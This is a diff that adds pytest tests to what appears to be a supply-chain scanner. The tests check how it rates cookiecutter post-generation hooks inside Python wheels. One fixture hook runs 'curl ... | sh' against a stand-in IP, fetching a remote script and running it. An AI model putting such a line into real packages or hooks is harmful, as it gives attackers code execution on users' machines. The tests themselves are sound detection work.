@@ -193,3 +193,71 @@ def test_packed_code_that_sends_cookies_out_stays_high(tmp_path):
         tmp_path, {"gizmo/__init__.py": b"", "gizmo/assets/tree/jquery.tree.pack.js": pack(stealer)}
     )
     assert res.risk.level in HIGH
+
+
+# ------------------------------------------------------ project templates' generation hooks
+
+POST_GEN_HOOK = b"""import subprocess
+import sys
+from pathlib import Path
+
+venv_root = Path('.venv')
+subprocess.check_call([sys.executable, '-m', 'venv', str(venv_root)])
+subprocess.check_call([str(venv_root / 'bin' / 'pip'), 'install', '-r', 'requirements.txt'])
+subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'playwright'])
+"""
+
+
+def _template(hook: bytes, with_cookiecutter_json: bool = True) -> dict[str, bytes]:
+    files = {
+        "gizmo/__init__.py": b"VERSION = '1.0'\n",
+        "gizmo/cli.py": b"def create(name):\n    from cookiecutter.main import cookiecutter\n",
+        "gizmo/project_template/hooks/post_gen_project.py": hook,
+        "gizmo/project_template/{{cookiecutter.name}}/main.py": b"print('hello')\n",
+    }
+    if with_cookiecutter_json:
+        files["gizmo/project_template/cookiecutter.json"] = b'{"name": "my-crawler"}\n'
+    return files
+
+
+def test_a_project_templates_post_gen_hook_installing_requirements_is_no_import_time_pull(
+    tmp_path,
+):
+    """A framework ships a cookiecutter template whose post-generation hook creates the new
+    project's virtualenv and installs its requirements: cookiecutter runs it when a user
+    generates a project, never on import."""
+    res = _wheel(tmp_path, _template(POST_GEN_HOOK))
+    pulls = [h for h in res.findings if h.capability == "install.dependency_pull"]
+    assert pulls and all(h.severity not in HIGH and h.place != "import" for h in pulls)
+    assert not {"place.dependency_pull", "place.import_time"} & _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_the_same_hook_without_a_template_beside_it_stays_an_import_time_pull(tmp_path):
+    """The twin: a ``hooks/post_gen_project.py`` with no ``cookiecutter.json`` beside it is
+    a module of the package; a pip install at its module level is judged as code."""
+    files = _template(POST_GEN_HOOK, with_cookiecutter_json=False)
+    files["gizmo/__init__.py"] = b"from gizmo.project_template.hooks import post_gen_project\n"
+    files["gizmo/project_template/__init__.py"] = b""
+    files["gizmo/project_template/hooks/__init__.py"] = b""
+    res = _wheel(tmp_path, files)
+    assert res.risk.level in HIGH
+
+
+def test_a_template_hook_the_package_imports_runs_on_import(tmp_path):
+    """The twin inside a template: a hook the package's own ``__init__`` imports runs on
+    import, whatever folder it sits in."""
+    files = _template(POST_GEN_HOOK)
+    files["gizmo/__init__.py"] = b"from gizmo.project_template.hooks import post_gen_project\n"
+    files["gizmo/project_template/__init__.py"] = b""
+    files["gizmo/project_template/hooks/__init__.py"] = b""
+    res = _wheel(tmp_path, files)
+    assert res.risk.level in HIGH
+
+
+def test_a_template_hook_that_pipes_a_download_into_a_shell_stays_high(tmp_path):
+    """The twin: a hook is a script a user's command runs, and a script fetching and
+    starting a remote shell script stays high there."""
+    hook = b"import os\nos.system('curl -s http://203.0.113.9/boot.sh | sh')\n"
+    res = _wheel(tmp_path, _template(hook))
+    assert res.risk.level in HIGH
